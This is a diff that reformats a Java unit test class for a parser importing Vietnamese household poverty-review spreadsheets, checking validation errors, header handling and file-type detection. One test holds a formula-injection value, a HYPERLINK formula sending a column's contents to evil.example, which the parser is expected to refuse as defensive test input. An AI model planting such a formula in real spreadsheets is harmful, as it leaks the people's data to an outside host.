@@ -55,14 +55,26 @@ class PersonImportParserTest {
     /** Two households: a reviewed one of three people, and one of one person without review. */
     static ImportFiles validFile() {
         return ImportFiles.withTemplateHeaders()
-                .row(review(with(person(1, "Lò Văn Thành", "15/03/1948", "Nam", "Thái", THANH_ID, "H01", "Chủ hộ"),
-                                ImportColumn.ADDRESS, "Bản Co Sản"),
-                        2025, 1_200_000, ImportColumn.EMPLOYMENT, ImportColumn.HEALTH_INSURANCE, ImportColumn.DOMESTIC_WATER))
+                .row(review(
+                        with(
+                                person(1, "Lò Văn Thành", "15/03/1948", "Nam", "Thái", THANH_ID, "H01", "Chủ hộ"),
+                                ImportColumn.ADDRESS,
+                                "Bản Co Sản"),
+                        2025,
+                        1_200_000,
+                        ImportColumn.EMPLOYMENT,
+                        ImportColumn.HEALTH_INSURANCE,
+                        ImportColumn.DOMESTIC_WATER))
                 .row(person(2, "Lò Thị Hoa", "03/1952", "Nữ", "03", HOA_ID, "H01", "Vợ/chồng"))
                 .row(person(3, "Lò Văn Nam", LocalDate.of(2010, 5, 15), "Nam", 3, 11_210_000_123L, "h01", "Con"))
                 .numberedEmptyRow(4)
-                .row(with(with(person(5, "Nguyễn Văn An", 1975, "nam", "Kinh", null, "H02", "Chủ hộ"),
-                        ImportColumn.PHONE, "0912 345 678"), ImportColumn.HEALTH_INSURANCE_CARD, "HN4111234567890"));
+                .row(with(
+                        with(
+                                person(5, "Nguyễn Văn An", 1975, "nam", "Kinh", null, "H02", "Chủ hộ"),
+                                ImportColumn.PHONE,
+                                "0912 345 678"),
+                        ImportColumn.HEALTH_INSURANCE_CARD,
+                        "HN4111234567890"));
     }
 
     @Test
@@ -86,8 +98,14 @@ class PersonImportParserTest {
         assertThat(head.person().personalId()).isEqualTo(PersonalId.of(THANH_ID));
         assertThat(head.person().address()).isEqualTo("Bản Co Sản");
         assertThat(head.relationship()).isEqualTo(Relationship.HEAD);
-        assertThat(head.review()).isEqualTo(new PovertyReviewFigures(2025, 1_200_000, Deprivations.of(
-                DeprivationIndicator.EMPLOYMENT, DeprivationIndicator.HEALTH_INSURANCE, DeprivationIndicator.DOMESTIC_WATER)));
+        assertThat(head.review())
+                .isEqualTo(new PovertyReviewFigures(
+                        2025,
+                        1_200_000,
+                        Deprivations.of(
+                                DeprivationIndicator.EMPLOYMENT,
+                                DeprivationIndicator.HEALTH_INSURANCE,
+                                DeprivationIndicator.DOMESTIC_WATER)));
 
         ImportRow spouse = report.rowsToImport().get(1);
         assertThat(spouse.person().birthDate()).isEqualTo(PartialDate.of(1952, 3));
@@ -108,7 +126,11 @@ class PersonImportParserTest {
         assertThat(other.person().phone()).isEqualTo(PhoneNumber.of("0912345678"));
         assertThat(other.person().healthInsuranceCard()).isEqualTo(HealthInsuranceCardNumber.of("HN4111234567890"));
 
-        assertThat(report.warnings()).extracting(ImportProblem::rowNumber, ImportProblem::cell, ImportProblem::messageKey,
+        assertThat(report.warnings())
+                .extracting(
+                        ImportProblem::rowNumber,
+                        ImportProblem::cell,
+                        ImportProblem::messageKey,
                         ImportProblem::arguments)
                 .containsExactly(tuple(4, "F4", "import.warning.leadingZeros", List.of(NAM_ID)));
     }
@@ -131,8 +153,13 @@ class PersonImportParserTest {
                 // row 8: H05 head repeating row 2's personal ID
                 .row(person(7, "Lò Văn Thanh", "1948", "Nam", "Thái", THANH_ID, "H05", "Chủ hộ"))
                 // row 9: H06 head: income not a number, a mark that is not x, no year
-                .row(with(review(person(8, "Tòng Văn Ơn", "1955", "Nam", "Thái", null, "H06", "Chủ hộ"), null, "khoảng 1 triệu"),
-                        ImportColumn.NUTRITION, "có"))
+                .row(with(
+                        review(
+                                person(8, "Tòng Văn Ơn", "1955", "Nam", "Thái", null, "H06", "Chủ hộ"),
+                                null,
+                                "khoảng 1 triệu"),
+                        ImportColumn.NUTRITION,
+                        "có"))
                 // row 10: H06, clean itself, left out with its household
                 .row(person(9, "Tòng Thị Xuân", "1958", "Nữ", "Thái", null, "H06", "Vợ/chồng"))
                 // row 11: nothing required filled but the name, with a digit
@@ -143,21 +170,41 @@ class PersonImportParserTest {
 
         ImportReport report = parse("danh-sach.xlsx", file);
 
-        assertThat(report.problems()).extracting(ImportProblem::rowNumber, ImportProblem::cell, ImportProblem::severity,
-                        ImportProblem::messageKey, ImportProblem::arguments)
+        assertThat(report.problems())
+                .extracting(
+                        ImportProblem::rowNumber,
+                        ImportProblem::cell,
+                        ImportProblem::severity,
+                        ImportProblem::messageKey,
+                        ImportProblem::arguments)
                 .containsExactly(
                         tuple(2, "F2", ImportProblem.Severity.ERROR, "import.error.personalId.repeated", List.of("8")),
-                        tuple(3, "C3", ImportProblem.Severity.ERROR, "person.error.birthDate.day", List.of(31, 2, "1980")),
+                        tuple(
+                                3,
+                                "C3",
+                                ImportProblem.Severity.ERROR,
+                                "person.error.birthDate.day",
+                                List.of(31, 2, "1980")),
                         tuple(4, "E4", ImportProblem.Severity.ERROR, "person.error.ethnicity.name", List.of("Thaii")),
                         tuple(4, "F4", ImportProblem.Severity.ERROR, "person.error.personalId.sexMismatch", List.of()),
-                        tuple(4, "F4", ImportProblem.Severity.ERROR, "person.error.personalId.birthYearMismatch", List.of()),
+                        tuple(
+                                4,
+                                "F4",
+                                ImportProblem.Severity.ERROR,
+                                "person.error.personalId.birthYearMismatch",
+                                List.of()),
                         tuple(5, "M5", ImportProblem.Severity.ERROR, "import.error.review.notHead", List.of()),
                         tuple(6, "L6", ImportProblem.Severity.ERROR, "import.error.household.noHead", List.of("H03")),
                         tuple(8, "F8", ImportProblem.Severity.ERROR, "import.error.personalId.repeated", List.of("2")),
                         tuple(9, "M9", ImportProblem.Severity.ERROR, "import.error.review.yearMissing", List.of()),
                         tuple(9, "N9", ImportProblem.Severity.ERROR, "import.error.review.incomeFormat", List.of()),
                         tuple(9, "Q9", ImportProblem.Severity.ERROR, "import.error.review.mark", List.of()),
-                        tuple(10, "K10", ImportProblem.Severity.ERROR, "import.error.household.hasErrors", List.of("H06", "9")),
+                        tuple(
+                                10,
+                                "K10",
+                                ImportProblem.Severity.ERROR,
+                                "import.error.household.hasErrors",
+                                List.of("H06", "9")),
                         tuple(11, "B11", ImportProblem.Severity.ERROR, "person.error.name.digits", List.of()),
                         tuple(11, "C11", ImportProblem.Severity.ERROR, "import.error.required", List.of()),
                         tuple(11, "D11", ImportProblem.Severity.ERROR, "import.error.required", List.of()),
@@ -166,7 +213,12 @@ class PersonImportParserTest {
                         tuple(11, "L11", ImportProblem.Severity.ERROR, "import.error.required", List.of()),
                         tuple(12, "C12", ImportProblem.Severity.ERROR, "person.error.birthDate.future", List.of()),
                         tuple(12, "D12", ImportProblem.Severity.ERROR, "person.error.sex", List.of()),
-                        tuple(12, "L12", ImportProblem.Severity.ERROR, "household.error.relationship", List.of("Hàng xóm")));
+                        tuple(
+                                12,
+                                "L12",
+                                ImportProblem.Severity.ERROR,
+                                "household.error.relationship",
+                                List.of("Hàng xóm")));
         assertThat(report.rowsToImport()).extracting(ImportRow::rowNumber).containsExactly(7);
         assertThat(report.dataRowCount()).isEqualTo(11);
         assertThat(report.rowsLeftOut()).isEqualTo(10);
@@ -178,27 +230,40 @@ class PersonImportParserTest {
     @Test
     void aNameOrAddressThatASpreadsheetWouldRunAsAFormulaIsRefusedAtItsCell() {
         byte[] file = ImportFiles.withTemplateHeaders()
-                .row(person(1, "=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")", "1960", "Nam", "Thái", null, "H01",
+                .row(person(
+                        1,
+                        "=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")",
+                        "1960",
+                        "Nam",
+                        "Thái",
+                        null,
+                        "H01",
                         "Chủ hộ"))
-                .row(with(person(2, "Lò Thị Hoa", "1962", "Nữ", "Thái", null, "H02", "Chủ hộ"), ImportColumn.ADDRESS,
+                .row(with(
+                        person(2, "Lò Thị Hoa", "1962", "Nữ", "Thái", null, "H02", "Chủ hộ"),
+                        ImportColumn.ADDRESS,
                         "+84 Bản Co Sản"))
                 .bytes();
 
         ImportReport report = parse("danh-sach.xlsx", file);
 
-        assertThat(report.problems()).extracting(ImportProblem::rowNumber, ImportProblem::messageKey)
+        assertThat(report.problems())
+                .extracting(ImportProblem::rowNumber, ImportProblem::messageKey)
                 .contains(tuple(2, "text.error.formula"), tuple(3, "text.error.formula"));
         assertThat(report.rowsToImport()).isEmpty();
     }
 
     @Test
     void aHouseholdWithTwoHeadsIsRefusedOnBothHeadRows() {
-        ImportReport report = parse("x.xlsx", ImportFiles.withTemplateHeaders()
-                .row(person(1, "Lò Văn Thành", "1948", "Nam", "Thái", null, "H01", "Chủ hộ"))
-                .row(person(2, "Lò Văn Tuấn", "1950", "Nam", "Thái", null, "H01", "Chủ hộ"))
-                .bytes());
+        ImportReport report = parse(
+                "x.xlsx",
+                ImportFiles.withTemplateHeaders()
+                        .row(person(1, "Lò Văn Thành", "1948", "Nam", "Thái", null, "H01", "Chủ hộ"))
+                        .row(person(2, "Lò Văn Tuấn", "1950", "Nam", "Thái", null, "H01", "Chủ hộ"))
+                        .bytes());
 
-        assertThat(report.problems()).extracting(ImportProblem::cell, ImportProblem::messageKey, ImportProblem::arguments)
+        assertThat(report.problems())
+                .extracting(ImportProblem::cell, ImportProblem::messageKey, ImportProblem::arguments)
                 .containsExactly(
                         tuple("L2", "import.error.household.manyHeads", List.of("H01", "2, 3")),
                         tuple("L3", "import.error.household.manyHeads", List.of("H01", "2, 3")));
@@ -207,18 +272,27 @@ class PersonImportParserTest {
 
     @Test
     void incomeIsReadAsTypedInVietnameseOrAsANumberAndAHeadMayHaveNoReview() {
-        ImportReport report = parse("x.xlsx", ImportFiles.withTemplateHeaders()
-                .row(review(person(1, "A Thị Một", "1960", "Nữ", "Mông", null, "1", "Chủ hộ"), "2025", "1.500.000 đ"))
-                .row(review(person(2, "A Thị Hai", "1961", "Nữ", "Mông", null, "2", "Chủ hộ"), 2025, "2,250,000"))
-                .row(review(person(3, "A Thị Ba", "1962", "Nữ", "Mông", null, "3", "Chủ hộ"), 2025, 1_166_666.67))
-                .row(review(person(4, "A Thị Bốn", "1963", "Nữ", "Mông", null, "4", "Chủ hộ"), 2024, "-5"))
-                .row(review(person(5, "A Thị Năm", "1964", "Nữ", "Mông", null, "5", "Chủ hộ"), 2015, 1_000_000))
-                .row(review(person(6, "A Thị Sáu", "1965", "Nữ", "Mông", null, "6", "Chủ hộ"), "25", 1_000_000))
-                .bytes());
+        ImportReport report = parse(
+                "x.xlsx",
+                ImportFiles.withTemplateHeaders()
+                        .row(review(
+                                person(1, "A Thị Một", "1960", "Nữ", "Mông", null, "1", "Chủ hộ"),
+                                "2025",
+                                "1.500.000 đ"))
+                        .row(review(
+                                person(2, "A Thị Hai", "1961", "Nữ", "Mông", null, "2", "Chủ hộ"), 2025, "2,250,000"))
+                        .row(review(
+                                person(3, "A Thị Ba", "1962", "Nữ", "Mông", null, "3", "Chủ hộ"), 2025, 1_166_666.67))
+                        .row(review(person(4, "A Thị Bốn", "1963", "Nữ", "Mông", null, "4", "Chủ hộ"), 2024, "-5"))
+                        .row(review(person(5, "A Thị Năm", "1964", "Nữ", "Mông", null, "5", "Chủ hộ"), 2015, 1_000_000))
+                        .row(review(person(6, "A Thị Sáu", "1965", "Nữ", "Mông", null, "6", "Chủ hộ"), "25", 1_000_000))
+                        .bytes());
 
-        assertThat(report.rowsToImport()).extracting(r -> r.review().incomePerCapita())
+        assertThat(report.rowsToImport())
+                .extracting(r -> r.review().incomePerCapita())
                 .containsExactly(1_500_000L, 2_250_000L, 1_166_667L);
-        assertThat(report.problems()).extracting(ImportProblem::cell, ImportProblem::messageKey, ImportProblem::arguments)
+        assertThat(report.problems())
+                .extracting(ImportProblem::cell, ImportProblem::messageKey, ImportProblem::arguments)
                 .containsExactly(
                         tuple("N5", "review.error.income", List.of()),
                         tuple("M6", "review.error.year", List.of("2015")),
@@ -227,20 +301,55 @@ class PersonImportParserTest {
 
     @Test
     void columnsMayComeInAnotherOrderUnderATitleAndUnknownColumnsAreOnlyWarnedOf() {
-        ImportReport report = parse("x.xlsx", ImportFiles.withHeaders(
-                        "Quan hệ với chủ hộ", "Mã hộ trong tệp", "HỌ VÀ TÊN", "Ngay sinh", "Giới tính", "Dân tộc",
-                        "Số định danh cá nhân", "Số CMND cũ", "Mã thẻ BHYT", "Số điện thoại", "Địa chỉ", "Ghi chú",
-                        "Năm rà soát", "Thu nhập bình quân đầu người", "Việc làm", "Người phụ thuộc trong hộ",
-                        "Dinh dưỡng", "Bảo hiểm y tế", "Trình độ giáo dục của người lớn", "Tình trạng đi học của trẻ em",
-                        "Chất lượng nhà ở", "Diện tích nhà ở bình quân đầu người", "Nguồn nước sinh hoạt",
-                        "Nhà tiêu hợp vệ sinh", "Sử dụng dịch vụ viễn thông", "Phương tiện phục vụ tiếp cận thông tin")
-                .titleRow("DANH SÁCH HỘ GIA ĐÌNH XÃ TUẦN GIÁO NĂM 2025")
-                .titleRow("")
-                .row("Chủ hộ", "H1", "Lò Văn Thành", "1948", "Nam", "Thái", null, null, null, null, null, "đã chuyển đến 2020")
-                .bytes());
+        ImportReport report = parse(
+                "x.xlsx",
+                ImportFiles.withHeaders(
+                                "Quan hệ với chủ hộ",
+                                "Mã hộ trong tệp",
+                                "HỌ VÀ TÊN",
+                                "Ngay sinh",
+                                "Giới tính",
+                                "Dân tộc",
+                                "Số định danh cá nhân",
+                                "Số CMND cũ",
+                                "Mã thẻ BHYT",
+                                "Số điện thoại",
+                                "Địa chỉ",
+                                "Ghi chú",
+                                "Năm rà soát",
+                                "Thu nhập bình quân đầu người",
+                                "Việc làm",
+                                "Người phụ thuộc trong hộ",
+                                "Dinh dưỡng",
+                                "Bảo hiểm y tế",
+                                "Trình độ giáo dục của người lớn",
+                                "Tình trạng đi học của trẻ em",
+                                "Chất lượng nhà ở",
+                                "Diện tích nhà ở bình quân đầu người",
+                                "Nguồn nước sinh hoạt",
+                                "Nhà tiêu hợp vệ sinh",
+                                "Sử dụng dịch vụ viễn thông",
+                                "Phương tiện phục vụ tiếp cận thông tin")
+                        .titleRow("DANH SÁCH HỘ GIA ĐÌNH XÃ TUẦN GIÁO NĂM 2025")
+                        .titleRow("")
+                        .row(
+                                "Chủ hộ",
+                                "H1",
+                                "Lò Văn Thành",
+                                "1948",
+                                "Nam",
+                                "Thái",
+                                null,
+                                null,
+                                null,
+                                null,
+                                null,
+                                "đã chuyển đến 2020")
+                        .bytes());
 
         assertThat(report.errors()).isEmpty();
-        assertThat(report.warnings()).extracting(ImportProblem::isFileLevel, ImportProblem::messageKey, ImportProblem::arguments)
+        assertThat(report.warnings())
+                .extracting(ImportProblem::isFileLevel, ImportProblem::messageKey, ImportProblem::arguments)
                 .containsExactly(tuple(true, "import.warning.header.unknown", List.of("L3", "Ghi chú")));
         assertThat(report.rowsToImport()).singleElement().satisfies(row -> {
             assertThat(row.rowNumber()).isEqualTo(4);
@@ -251,21 +360,38 @@ class PersonImportParserTest {
 
     @Test
     void missingAndRepeatedHeadersAreNamedAndNoRowIsRead() {
-        ImportReport report = parse("x.xlsx", ImportFiles.withHeaders(
-                        "STT", "Họ và tên", "Ngày sinh nhật", "Giới tính", "Giới tính", "Số định danh cá nhân")
-                .row(1, "Lò Văn Thành", "1948", "Nam", "Nam", THANH_ID)
-                .bytes());
+        ImportReport report = parse(
+                "x.xlsx",
+                ImportFiles.withHeaders(
+                                "STT", "Họ và tên", "Ngày sinh nhật", "Giới tính", "Giới tính", "Số định danh cá nhân")
+                        .row(1, "Lò Văn Thành", "1948", "Nam", "Nam", THANH_ID)
+                        .bytes());
 
-        assertThat(report.problems()).extracting(ImportProblem::severity, ImportProblem::messageKey, ImportProblem::arguments)
+        assertThat(report.problems())
+                .extracting(ImportProblem::severity, ImportProblem::messageKey, ImportProblem::arguments)
                 .contains(
-                        tuple(ImportProblem.Severity.WARNING, "import.warning.header.unknown", List.of("C1", "Ngày sinh nhật")),
-                        tuple(ImportProblem.Severity.ERROR, "import.error.header.repeated", List.of("Giới tính", "D", "E")),
+                        tuple(
+                                ImportProblem.Severity.WARNING,
+                                "import.warning.header.unknown",
+                                List.of("C1", "Ngày sinh nhật")),
+                        tuple(
+                                ImportProblem.Severity.ERROR,
+                                "import.error.header.repeated",
+                                List.of("Giới tính", "D", "E")),
                         tuple(ImportProblem.Severity.ERROR, "import.error.header.missing", List.of("Ngày sinh", "1")),
                         tuple(ImportProblem.Severity.ERROR, "import.error.header.missing", List.of("Dân tộc", "1")),
-                        tuple(ImportProblem.Severity.ERROR, "import.error.header.missing", List.of("Mã hộ trong tệp", "1")),
-                        tuple(ImportProblem.Severity.ERROR, "import.error.header.missing", List.of("Nguồn nước sinh hoạt", "1")));
-        assertThat(report.problems()).filteredOn(p -> p.messageKey().equals("import.error.header.missing"))
-                .as("every template column but STT, Họ và tên, Giới tính, Số định danh cá nhân").hasSize(22);
+                        tuple(
+                                ImportProblem.Severity.ERROR,
+                                "import.error.header.missing",
+                                List.of("Mã hộ trong tệp", "1")),
+                        tuple(
+                                ImportProblem.Severity.ERROR,
+                                "import.error.header.missing",
+                                List.of("Nguồn nước sinh hoạt", "1")));
+        assertThat(report.problems())
+                .filteredOn(p -> p.messageKey().equals("import.error.header.missing"))
+                .as("every template column but STT, Họ và tên, Giới tính, Số định danh cá nhân")
+                .hasSize(22);
         assertThat(report.problems()).allMatch(ImportProblem::isFileLevel);
         assertThat(report.hasFileErrors()).isTrue();
         assertThat(report.rowsToImport()).isEmpty();
@@ -274,30 +400,43 @@ class PersonImportParserTest {
 
     @Test
     void aSheetWithoutTheHeaderRowIsRefused() {
-        ImportReport report = parse("x.xlsx", ImportFiles.withHeaders("Tên", "Năm sinh").row("Lò Văn Thành", 1948).bytes());
+        ImportReport report = parse(
+                "x.xlsx",
+                ImportFiles.withHeaders("Tên", "Năm sinh")
+                        .row("Lò Văn Thành", 1948)
+                        .bytes());
 
-        assertThat(report.problems()).extracting(ImportProblem::messageKey, ImportProblem::arguments)
+        assertThat(report.problems())
+                .extracting(ImportProblem::messageKey, ImportProblem::arguments)
                 .containsExactly(tuple("import.error.header.notFound", List.of(ImportTemplate.DATA_SHEET, 10)));
     }
 
     @Test
     void anEmptyWorkbookIsRefusedForWantOfTheHeaderRow() throws IOException {
         byte[] empty;
-        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+        try (XSSFWorkbook workbook = new XSSFWorkbook();
+                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
             workbook.createSheet("Sheet1");
             workbook.write(out);
             empty = out.toByteArray();
         }
 
-        assertThat(parse("trong.xlsx", empty).problems()).extracting(ImportProblem::messageKey, ImportProblem::arguments)
+        assertThat(parse("trong.xlsx", empty).problems())
+                .extracting(ImportProblem::messageKey, ImportProblem::arguments)
                 .containsExactly(tuple("import.error.header.notFound", List.of("Sheet1", 10)));
     }
 
     @Test
     void aFileWithTheHeaderRowOnlyHasNoDataRows() {
-        ImportReport report = parse("x.xlsx", ImportFiles.withTemplateHeaders().numberedEmptyRow(1).numberedEmptyRow(2).bytes());
+        ImportReport report = parse(
+                "x.xlsx",
+                ImportFiles.withTemplateHeaders()
+                        .numberedEmptyRow(1)
+                        .numberedEmptyRow(2)
+                        .bytes());
 
-        assertThat(report.problems()).extracting(ImportProblem::messageKey, ImportProblem::arguments)
+        assertThat(report.problems())
+                .extracting(ImportProblem::messageKey, ImportProblem::arguments)
                 .containsExactly(tuple("import.error.noRows", List.of(ImportTemplate.DATA_SHEET)));
         assertThat(report.dataRowCount()).isZero();
     }
@@ -305,7 +444,8 @@ class PersonImportParserTest {
     @Test
     void theDataSheetIsReadEvenWhenItIsNotTheFirstOne() throws IOException {
         byte[] file;
-        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(validFile().bytes()));
+        try (XSSFWorkbook workbook =
+                        new XSSFWorkbook(new ByteArrayInputStream(validFile().bytes()));
                 ByteArrayOutputStream out = new ByteArrayOutputStream()) {
             workbook.createSheet("Ghi chú").createRow(0).createCell(0).setCellValue("Họ và tên");
             workbook.setSheetOrder("Ghi chú", 0);
@@ -319,7 +459,8 @@ class PersonImportParserTest {
     @Test
     void moreThanTwentyThousandDataRowsAreRefused() throws IOException {
         byte[] file;
-        try (SXSSFWorkbook workbook = new SXSSFWorkbook(100); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+        try (SXSSFWorkbook workbook = new SXSSFWorkbook(100);
+                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
             Sheet sheet = workbook.createSheet(ImportTemplate.DATA_SHEET);
             Row header = sheet.createRow(0);
             for (ImportColumn column : ImportColumn.values()) {
@@ -336,7 +477,8 @@ class PersonImportParserTest {
 
         ImportReport report = parse("lon.xlsx", file);
 
-        assertThat(report.problems()).extracting(ImportProblem::messageKey, ImportProblem::arguments)
+        assertThat(report.problems())
+                .extracting(ImportProblem::messageKey, ImportProblem::arguments)
                 .containsExactly(tuple("import.error.tooManyRows", List.of(20_000)));
         assertThat(report.canImport()).isFalse();
     }
@@ -349,10 +491,14 @@ class PersonImportParserTest {
         }
 
         assertThat(new PersonImportParser(TODAY, PersonImportParser.DEFAULT_MAX_BYTES, 3)
-                .parse("x.xlsx", 0, new ByteArrayInputStream(file.bytes())).rowsToImport()).hasSize(3);
+                        .parse("x.xlsx", 0, new ByteArrayInputStream(file.bytes()))
+                        .rowsToImport())
+                .hasSize(3);
         assertThat(new PersonImportParser(TODAY, PersonImportParser.DEFAULT_MAX_BYTES, 2)
-                .parse("x.xlsx", 0, new ByteArrayInputStream(file.bytes())).problems())
-                .extracting(ImportProblem::messageKey).containsExactly("import.error.tooManyRows");
+                        .parse("x.xlsx", 0, new ByteArrayInputStream(file.bytes()))
+                        .problems())
+                .extracting(ImportProblem::messageKey)
+                .containsExactly("import.error.tooManyRows");
     }
 
     @Test
@@ -364,45 +510,58 @@ class PersonImportParserTest {
         ImportReport understated = small.parse("to.xlsx", 10, new ByteArrayInputStream(file));
         ImportReport tenMegabytes = parser.parse("to.xlsx", 10L * 1024 * 1024 + 1, new ByteArrayInputStream(file));
 
-        assertThat(declared.problems()).extracting(ImportProblem::messageKey, ImportProblem::arguments)
+        assertThat(declared.problems())
+                .extracting(ImportProblem::messageKey, ImportProblem::arguments)
                 .containsExactly(tuple("import.error.tooBig", List.of("to.xlsx", 1L)));
         assertThat(understated.problems()).extracting(ImportProblem::messageKey).containsExactly("import.error.tooBig");
-        assertThat(tenMegabytes.problems()).extracting(ImportProblem::messageKey, ImportProblem::arguments)
+        assertThat(tenMegabytes.problems())
+                .extracting(ImportProblem::messageKey, ImportProblem::arguments)
                 .containsExactly(tuple("import.error.tooBig", List.of("to.xlsx", 10L)));
-        assertThat(new PersonImportParser(TODAY, file.length, 100).parse("to.xlsx", file.length,
-                new ByteArrayInputStream(file)).errors()).as("a file of exactly the limit").isEmpty();
+        assertThat(new PersonImportParser(TODAY, file.length, 100)
+                        .parse("to.xlsx", file.length, new ByteArrayInputStream(file))
+                        .errors())
+                .as("a file of exactly the limit")
+                .isEmpty();
     }
 
     @Test
     void aTextOrCsvFileRenamedXlsxIsRecognised() {
         byte[] csv = "STT,Họ và tên,Ngày sinh\n1,Lò Văn Thành,15/03/1948\n".getBytes(StandardCharsets.UTF_8);
 
-        assertThat(fileErrors("danh-sach.xlsx", csv)).containsExactly(tuple("import.error.type.text", List.of("danh-sach.xlsx")));
+        assertThat(fileErrors("danh-sach.xlsx", csv))
+                .containsExactly(tuple("import.error.type.text", List.of("danh-sach.xlsx")));
     }
 
     @Test
     void aPdfRenamedXlsxIsRecognised() {
         byte[] pdf = "%PDF-1.7\n%âãÏÓ\n1 0 obj\n".getBytes(StandardCharsets.ISO_8859_1);
 
-        assertThat(fileErrors("quyet-dinh.xlsx", pdf)).containsExactly(tuple("import.error.type.pdf", List.of("quyet-dinh.xlsx")));
+        assertThat(fileErrors("quyet-dinh.xlsx", pdf))
+                .containsExactly(tuple("import.error.type.pdf", List.of("quyet-dinh.xlsx")));
     }
 
     @Test
     void anOldExcelFileIsToldToBeSavedAsXlsx() throws IOException {
         byte[] xls;
-        try (HSSFWorkbook workbook = new HSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
-            workbook.createSheet(ImportTemplate.DATA_SHEET).createRow(0).createCell(0).setCellValue("Họ và tên");
+        try (HSSFWorkbook workbook = new HSSFWorkbook();
+                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+            workbook.createSheet(ImportTemplate.DATA_SHEET)
+                    .createRow(0)
+                    .createCell(0)
+                    .setCellValue("Họ và tên");
             workbook.write(out);
             xls = out.toByteArray();
         }
 
-        assertThat(fileErrors("danh-sach.xlsx", xls)).containsExactly(tuple("import.error.type.xls", List.of("danh-sach.xlsx")));
+        assertThat(fileErrors("danh-sach.xlsx", xls))
+                .containsExactly(tuple("import.error.type.xls", List.of("danh-sach.xlsx")));
     }
 
     @Test
     void aPasswordProtectedWorkbookIsToldApart() throws Exception {
         byte[] encrypted;
-        try (POIFSFileSystem fs = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+        try (POIFSFileSystem fs = new POIFSFileSystem();
+                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
             Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
             encryptor.confirmPassword("matkhau");
             try (OutputStream os = encryptor.getDataStream(fs)) {
@@ -412,7 +571,8 @@ class PersonImportParserTest {
             encrypted = out.toByteArray();
         }
 
-        assertThat(fileErrors("x.xlsx", encrypted)).containsExactly(tuple("import.error.type.encrypted", List.of("x.xlsx")));
+        assertThat(fileErrors("x.xlsx", encrypted))
+                .containsExactly(tuple("import.error.type.encrypted", List.of("x.xlsx")));
     }
 
     @Test
@@ -425,13 +585,16 @@ class PersonImportParserTest {
         }
         byte[] truncated = java.util.Arrays.copyOf(validFile().bytes(), 600);
 
-        assertThat(fileErrors("x.xlsx", zip.toByteArray())).containsExactly(tuple("import.error.type.unreadable", List.of("x.xlsx")));
-        assertThat(fileErrors("x.xlsx", truncated)).containsExactly(tuple("import.error.type.unreadable", List.of("x.xlsx")));
+        assertThat(fileErrors("x.xlsx", zip.toByteArray()))
+                .containsExactly(tuple("import.error.type.unreadable", List.of("x.xlsx")));
+        assertThat(fileErrors("x.xlsx", truncated))
+                .containsExactly(tuple("import.error.type.unreadable", List.of("x.xlsx")));
     }
 
     @Test
     void anEmptyUploadAndRandomBytesAreRefused() {
-        assertThat(fileErrors("x.xlsx", new byte[0])).containsExactly(tuple("import.error.type.empty", List.of("x.xlsx")));
+        assertThat(fileErrors("x.xlsx", new byte[0]))
+                .containsExactly(tuple("import.error.type.empty", List.of("x.xlsx")));
         assertThat(fileErrors("anh.xlsx", new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0}))
                 .containsExactly(tuple("import.error.type.other", List.of("anh.xlsx")));
     }
@@ -461,6 +624,8 @@ class PersonImportParserTest {
         ImportReport report = parse(name, file);
         assertThat(report.problems()).allMatch(p -> p.isFileLevel() && p.isError());
         assertThat(report.canImport()).isFalse();
-        return report.problems().stream().map(p -> tuple(p.messageKey(), p.arguments())).toList();
+        return report.problems().stream()
+                .map(p -> tuple(p.messageKey(), p.arguments()))
+                .toList();
     }
 }
